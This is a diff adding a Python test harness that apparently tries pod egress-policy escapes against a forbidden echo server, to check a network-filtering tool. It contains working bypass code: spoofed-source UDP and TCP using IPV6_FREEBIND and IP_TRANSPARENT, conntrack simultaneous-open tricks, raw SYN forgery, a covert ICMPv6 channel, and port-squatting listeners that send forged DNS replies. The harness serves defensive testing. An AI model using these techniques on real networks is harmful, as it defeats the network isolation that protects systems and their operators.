@@ -1,0 +1,259 @@
+"""Escape techniques a workload inside the pod might try, one per call.
+
+usage: attack.py TECHNIQUE REMOTE PORT LOCAL [PAYLOAD]
+
+REMOTE:PORT is a forbidden destination running servers.py (an echo
+server); LOCAL is the workload's own (pod) address of the same family.
+Prints one JSON line: {"technique": T, "reached": bool, "detail": "..."}.
+"reached" is true only if the forbidden server's echo came back: the
+attacker proved two-way contact with a host the policy forbids.
+Every socket operation has a short timeout; nothing loops unbounded.
+
+Techniques:
+  udp-freebind6     IPV6_FREEBIND bound to REMOTE sends to LOCAL (a forged
+                    "inbound" flow), then LOCAL sends its "reply" to REMOTE.
+                    Needs no privilege.
+  udp-transparent4  the same over IPv4 with IP_TRANSPARENT (CAP_NET_RAW).
+  tcp-fullqueue6    IPV6_FREEBIND SYN from REMOTE to a LOCAL listener whose
+                    accept queue is full (dropped, so conntrack keeps a
+                    SYN_SENT entry), then connect() LOCAL -> REMOTE from the
+                    same port: a reply-direction simultaneous open. No
+                    privilege.
+  tcp-rawsyn4       a raw SYN from REMOTE to LOCAL with a bad checksum
+                    (CAP_NET_RAW), then connect() LOCAL -> REMOTE.
+
+Other helpers (different arguments):
+  attack.py nd TARGET TYPE HOPLIMIT PAYLOAD_BYTES [hbh]
+        one ICMPv6 message of TYPE (135, 136, 143, ...) to TARGET from a raw
+        socket (CAP_NET_RAW), padded to PAYLOAD_BYTES of ICMPv6, carrying
+        the marker "egret-covert"; "hbh" puts a hop-by-hop header before
+        it. Prints {"sent": true} or {"sent": false, "detail": ...}.
+  attack.py hostile-tcp ADDR PORT / hostile-udp ADDR PORT
+        a listener squatting on one of egret's ports: prints "ready", then
+        one line "got <first bytes>" per connection or datagram it receives
+        (and answers UDP with a forged DNS-looking reply).
+  attack.py rcvmark ADDR PORT
+        a UDP socket with SO_RCVMARK: prints "ready", then one JSON line
+        {"mark": N} for the first datagram (N = -1 when no mark came).
+"""
+import json
+import os
+import socket
+import struct
+import sys
+import time
+
+IPV6_FREEBIND = 78
+IP_TRANSPARENT = 19
+TIMEOUT = 1.5
+
+
+def out(technique, reached, detail):
+    print(json.dumps({"technique": technique, "reached": reached, "detail": detail}), flush=True)
+
+
+def free_port(fam, kind, addr):
+    s = socket.socket(fam, kind)
+    s.bind((addr, 0))
+    p = s.getsockname()[1]
+    s.close()
+    return p
+
+
+def echo_back(s, payload):
+    """Sends payload on a connected socket and waits for the echo."""
+    try:
+        s.settimeout(TIMEOUT)
+        s.send(payload)
+        data = s.recv(200)
+        return data.startswith(b"echo:"), "got %r" % data[:40]
+    except OSError as e:
+        return False, "%s: %s" % (type(e).__name__, e)
+
+
+def udp_forged(technique, fam, opt_level, opt, remote, port, local, payload):
+    lport = free_port(fam, socket.SOCK_DGRAM, local)
+    forger = socket.socket(fam, socket.SOCK_DGRAM)
+    try:
+        forger.setsockopt(opt_level, opt, 1)
+        forger.bind((remote, port))
+        forger.sendto(b"hello", (local, lport))
+    except OSError as e:
+        return out(technique, False, "forging failed: %s: %s" % (type(e).__name__, e))
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    s.bind((local, lport))
+    try:
+        s.connect((remote, port))
+    except OSError as e:
+        return out(technique, False, "connect: %s" % e)
+    reached, detail = echo_back(s, payload)
+    out(technique, reached, detail)
+
+
+def tcp_fullqueue6(remote, port, local, payload):
+    technique = "tcp-fullqueue6"
+    fam = socket.AF_INET6
+    lst = socket.socket(fam, socket.SOCK_STREAM)
+    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+    lst.bind((local, 0))
+    lport = lst.getsockname()[1]
+    lst.listen(0)
+    # Fill the accept queue (backlog 0 holds one connection) and never
+    # accept, so the forged SYN is dropped and its conntrack entry stays.
+    fillers = []
+    for _ in range(2):
+        f = socket.socket(fam, socket.SOCK_STREAM)
+        f.setblocking(False)
+        try:
+            f.connect((local, lport))
+        except BlockingIOError:
+            pass
+        fillers.append(f)
+    time.sleep(0.2)
+    forger = socket.socket(fam, socket.SOCK_STREAM)
+    forger.setblocking(False)
+    try:
+        forger.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
+        forger.bind((remote, port))
+        forger.connect((local, lport))
+    except BlockingIOError:
+        pass
+    except OSError as e:
+        return out(technique, False, "forging failed: %s: %s" % (type(e).__name__, e))
+    time.sleep(0.2)
+    s = socket.socket(fam, socket.SOCK_STREAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+    try:
+        s.bind((local, lport))
+        s.settimeout(TIMEOUT)
+        s.connect((remote, port))
+    except OSError as e:
+        return out(technique, False, "connect: %s: %s" % (type(e).__name__, e))
+    reached, detail = echo_back(s, payload + b"\n")
+    out(technique, reached, detail)
+
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    s = (s >> 16) + (s & 0xFFFF)
+    s += s >> 16
+    return ~s & 0xFFFF
+
+
+def tcp_rawsyn4(remote, port, local, payload):
+    technique = "tcp-rawsyn4"
+    lport = free_port(socket.AF_INET, socket.SOCK_STREAM, local)
+    src, dst = socket.inet_aton(remote), socket.inet_aton(local)
+    tcp = struct.pack("!HHIIBBHHH", port, lport, 12345, 0, 5 << 4, 0x02, 65535, 0, 0)
+    good = checksum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
+    tcp = tcp[:16] + struct.pack("!H", good ^ 0x5A5A) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0, src, dst)
+    try:
+        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+        raw.sendto(ip + tcp, (local, 0))
+    except OSError as e:
+        return out(technique, False, "forging failed: %s: %s" % (type(e).__name__, e))
+    time.sleep(0.1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    try:
+        s.bind((local, lport))
+        s.settimeout(TIMEOUT)
+        s.connect((remote, port))
+    except OSError as e:
+        return out(technique, False, "connect: %s: %s" % (type(e).__name__, e))
+    reached, detail = echo_back(s, payload + b"\n")
+    out(technique, reached, detail)
+
+
+MARKER = b"egret-covert"
+
+
+def nd(target, icmp_type, hoplimit, size, hbh):
+    try:
+        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, hoplimit)
+        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, hoplimit)
+        if hbh:
+            # Hop-by-hop header: next header (filled in by the kernel),
+            # length 0 (8 bytes), a PadN option of 4 bytes after a router
+            # alert (MLD's own shape).
+            s.setsockopt(socket.IPPROTO_IPV6, 54, bytes([0, 0, 5, 2, 0, 0, 1, 0]))
+        body = MARKER + b"\0" * max(0, size - 4 - len(MARKER))
+        # type, code, checksum (the kernel computes it), then the body.
+        msg = struct.pack("!BBH", icmp_type, 0, 0) + body
+        s.sendto(msg, (target, 0))
+        print(json.dumps({"sent": True}), flush=True)
+    except OSError as e:
+        print(json.dumps({"sent": False, "detail": "%s: %s" % (type(e).__name__, e)}), flush=True)
+
+
+def hostile(kind, addr, port):
+    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
+    if kind == "tcp":
+        s = socket.socket(fam, socket.SOCK_STREAM)
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        s.bind((addr, port))
+        s.listen(64)
+        print("ready", flush=True)
+        while True:
+            c, _ = s.accept()
+            c.settimeout(1)
+            try:
+                data = c.recv(200)
+                c.sendall(b"HTTP/1.0 200 OK\r\ncontent-length: 7\r\n\r\nhostile")
+            except OSError:
+                data = b""
+            print("got %r" % data[:60], flush=True)
+            c.close()
+    else:
+        s = socket.socket(fam, socket.SOCK_DGRAM)
+        s.bind((addr, port))
+        print("ready", flush=True)
+        while True:
+            data, peer = s.recvfrom(2048)
+            print("got %r" % data[:60], flush=True)
+            if len(data) >= 12:
+                # Same ID, QR set, NOERROR, the question echoed, no answer.
+                s.sendto(data[:2] + b"\x81\x80" + data[4:], peer)
+
+
+def rcvmark(addr, port):
+    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, 75, 1)  # SO_RCVMARK
+    s.bind((addr, port))
+    print("ready", flush=True)
+    _, anc, _, _ = s.recvmsg(2048, socket.CMSG_SPACE(4))
+    mark = -1
+    for level, kind, data in anc:
+        if level == socket.SOL_SOCKET and kind == 36:  # the cmsg is SO_MARK
+            mark = struct.unpack("=I", data[:4])[0]
+    print(json.dumps({"mark": mark}), flush=True)
+
+
+def main():
+    if sys.argv[1] == "nd":
+        hbh = len(sys.argv) > 6 and sys.argv[6] == "hbh"
+        return nd(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), hbh)
+    if sys.argv[1] in ("hostile-tcp", "hostile-udp"):
+        return hostile(sys.argv[1][8:], sys.argv[2], int(sys.argv[3]))
+    if sys.argv[1] == "rcvmark":
+        return rcvmark(sys.argv[2], int(sys.argv[3]))
+    technique, remote, port, local = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
+    payload = (sys.argv[5] if len(sys.argv) > 5 else "x").encode()
+    if technique == "udp-freebind6":
+        udp_forged(technique, socket.AF_INET6, socket.IPPROTO_IPV6, IPV6_FREEBIND, remote, port, local, payload)
+    elif technique == "udp-transparent4":
+        udp_forged(technique, socket.AF_INET, socket.IPPROTO_IP, IP_TRANSPARENT, remote, port, local, payload)
+    elif technique == "tcp-fullqueue6":
+        tcp_fullqueue6(remote, port, local, payload)
+    elif technique == "tcp-rawsyn4":
+        tcp_rawsyn4(remote, port, local, payload)
+    else:
+        sys.exit("unknown technique %s" % technique)
+
+
+if __name__ == "__main__":
+    main()
